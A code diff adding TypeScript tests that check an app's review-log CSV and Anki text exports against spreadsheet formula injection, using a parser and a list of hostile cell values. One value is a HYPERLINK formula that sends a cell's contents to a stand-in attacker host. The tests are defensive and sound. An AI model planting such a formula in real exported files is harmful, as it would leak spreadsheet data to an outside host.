@@ -31,3 +31,81 @@ describe('Anki text export', () => {
 		expect(lines).toHaveLength(10);
 	});
 });
+
+/** RFC 4180 records, as a spreadsheet splits them (quoted fields may hold separators and line breaks). */
+function parseDelimited(text: string, separator: string, lineEnd: string): string[][] {
+	const records: string[][] = [];
+	let fields: string[] = [];
+	let i = 0;
+	while (i < text.length) {
+		let field = '';
+		if (text[i] === '"') {
+			i++;
+			for (;;) {
+				const quote = text.indexOf('"', i);
+				field += text.slice(i, quote);
+				i = quote + 1;
+				if (text[i] !== '"') break;
+				field += '"';
+				i++;
+			}
+		} else {
+			const ends = [text.indexOf(separator, i), text.indexOf(lineEnd, i)].filter((at) => at >= 0);
+			const end = Math.min(...ends);
+			field = text.slice(i, end);
+			i = end;
+		}
+		fields.push(field);
+		if (text.startsWith(separator, i)) i += separator.length;
+		else if (text.startsWith(lineEnd, i)) {
+			i += lineEnd.length;
+			records.push(fields);
+			fields = [];
+		}
+	}
+	return records;
+}
+
+/** Every way a spreadsheet could read a cell as a formula, and text that must survive as it is. */
+const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tTab', '\rCR', '\0nul', '=1,2\r\n"quoted"', 'plain, "quoted"\nline', '서비스 타입', '', "'already"];
+const FORMULA = /^[=+\-@\t\r\0]/;
+/** The one documented change: a leading apostrophe before a formula character. */
+const exported = (text: string) => (FORMULA.test(text) ? `'${text}` : text);
+
+describe('exports are safe to open in a spreadsheet (CSV injection)', () => {
+	it('the review log CSV: every field reads back as the text it was, none as a formula', () => {
+		const rows = HOSTILE.map((deck, i) => review(`r${i}`, `-card${i}`, T0 + i, { durationMs: i }));
+		const text = REVIEW_CSV_HEADER + reviewCsvLines(rows, (row) => HOSTILE[Number(row.id.slice(1))]);
+		const records = parseDelimited(text, ',', '\r\n');
+		expect(records).toHaveLength(HOSTILE.length + 1);
+		HOSTILE.forEach((deck, i) => {
+			expect(records[i + 1]).toEqual([exported(`-card${i}`), exported(deck), new Date(T0 + i).toISOString(), '3', 'review', '2', '5', String(i)]);
+		});
+		expect(records.flat().filter((field) => FORMULA.test(field))).toEqual([]);
+		expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
+	});
+
+	it('a review log row holding values no rating writes still exports, as text', () => {
+		const odd = review('odd', 'c', 8.64e15 + 1, { rating: '=1+1' as never, stateBefore: 9 as never });
+		const [record] = parseDelimited(reviewCsvLines([odd], () => 'd'), ',', '\r\n');
+		expect(record.slice(0, 5)).toEqual(['c', 'd', '8640000000000001', "'=1+1", '9']);
+	});
+
+	it('the Anki text: plain fields get the apostrophe, HTML fields a character reference that Anki shows as before', () => {
+		const cards: Card[] = HOSTILE.map((text, i) => ({
+			id: `c${i}`, deckId: `d${i}`, front: text, back: `-${text}`, frontText: text, backText: text,
+			source: { file: '=notes.md', line: 1 }, tableId: 't', rowKey: text, column: 'c', direction: 'forward'
+		}));
+		const text = ankiLines(cards, (deckId) => [HOSTILE[Number(deckId.slice(1))]]);
+		const records = parseDelimited(text, '\t', '\n');
+		expect(records).toHaveLength(HOSTILE.length);
+		const fromReference = (field: string) => field.replace(/^&#(\d+);/, (_, code) => String.fromCharCode(Number(code)));
+		HOSTILE.forEach((value, i) => {
+			const html = (s: string) => s.replace(/\r?\n/g, '<br>');
+			const [front, back, deck, tag, guid] = records[i];
+			expect([fromReference(front), fromReference(back)]).toEqual([html(value), html(`-${value}`)]);
+			expect([deck, tag, guid]).toEqual([exported(html(value.replaceAll('::', ':'))), 'tabledeck::=notes', `c${i}`]);
+		});
+		expect(records.flat().filter((field) => FORMULA.test(field))).toEqual([]);
+	});
+});
